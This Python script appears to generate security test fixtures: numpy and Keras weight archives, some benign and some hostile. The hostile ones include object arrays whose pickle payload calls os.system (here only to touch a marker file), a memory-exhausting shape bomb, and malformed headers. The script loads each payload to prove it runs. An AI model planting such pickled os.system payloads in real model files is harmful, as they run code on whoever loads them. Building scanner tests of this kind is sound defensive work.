#!/usr/bin/env python3
"""numpy arrays and .npz archives (plain, object arrays carrying a pickle payload, hostile headers), and
a Keras v3 archive whose model.weights.npz holds an object array. Written with Debian's numpy.

Every payload is proven real: a throw-away subprocess in an empty temp dir loads the file the way its
loader does (np.load(allow_pickle=True), and for the .keras archive Keras 3's NpzIOStore, which calls
np.load(allow_pickle=True) on the model.weights.npz member and reads each entry) and the marker file must
appear; otherwise this script fails."""
import io
import json
import os
import struct
import subprocess
import sys
import tempfile
import zipfile

import numpy as np


class MarkerPayload:
    """Pickles to os.system(<command>): the classic weights-store attack."""

    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


MARKER = "ms_numpy_marker"
LOADER = r"""
import io, sys, zipfile
import numpy as np
path = sys.argv[1]
try:
    if path.endswith(".keras"):
        with zipfile.ZipFile(path) as archive:
            source = io.BytesIO(archive.read("model.weights.npz"))
    else:
        source = path
    data = np.load(source, allow_pickle=True)
    for key in getattr(data, "files", []):
        data[key]
except BaseException as error:
    print(type(error).__name__, error, file=sys.stderr)
"""


def prove(path):
    with tempfile.TemporaryDirectory() as tmp:
        subprocess.run([sys.executable, "-c", LOADER, path], cwd=tmp, timeout=120, stdin=subprocess.DEVNULL,
                       stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        if not os.path.exists(os.path.join(tmp, MARKER)):
            raise SystemExit("payload of %s did not run" % path)


def npy_bytes(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def raw_npy(header_text, payload=b""):
    header = header_text.encode("latin1")
    pad = 64 - (10 + len(header) + 1) % 64
    header += b" " * pad + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload


def main(out):
    out = os.path.join(out, "numpy")
    os.makedirs(out, exist_ok=True)
    p = lambda name: os.path.join(out, name)  # noqa: E731
    np.save(p("float32.npy"), np.arange(12, dtype=np.float32).reshape(3, 4))
    np.save(p("structured.npy"), np.zeros(3, dtype=[("a", "<i4"), ("b", "<f8")]))
    np.savez(p("plain.npz"), kernel=np.ones((4, 2), dtype=np.float32), bias=np.zeros(2))
    evil = np.empty(1, dtype=object)
    evil[0] = MarkerPayload("touch " + MARKER)
    np.save(p("object_payload.npy"), evil, allow_pickle=True)
    np.savez(p("object_payload.npz"), weights=evil)
    structured_evil = np.zeros(1, dtype=[("a", "<i4"), ("o", "O")])
    np.save(p("structured_object.npy"), structured_evil, allow_pickle=True)
    # 2**40 float64 elements declared, none stored.
    with open(p("shape_bomb.npy"), "wb") as f:
        f.write(raw_npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1099511627776,), }"))
    with zipfile.ZipFile(p("non_array_member.npz"), "w") as z:
        z.writestr("kernel.npy", npy_bytes(np.ones(3)))
        z.writestr("notes.txt", "not an array")
    with open(p("malformed_header.npy"), "wb") as f:
        f.write(raw_npy("{'descr': '<f8', 'shape': (3,"))
    weights = io.BytesIO()
    np.savez(weights, **{"layers/dense/vars/0": evil})
    config = {"module": "keras", "class_name": "Sequential", "registered_name": None,
              "config": {"name": "s", "layers": [{"module": "keras.layers", "class_name": "Dense",
                                                   "registered_name": None,
                                                   "config": {"name": "dense", "units": 1}}]}}
    with zipfile.ZipFile(p("weights_npz_payload.keras"), "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.4.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.npz", weights.getvalue())
    for name in ("object_payload.npy", "object_payload.npz", "weights_npz_payload.keras"):
        prove(p(name))


if __name__ == "__main__":
    main(sys.argv[1])
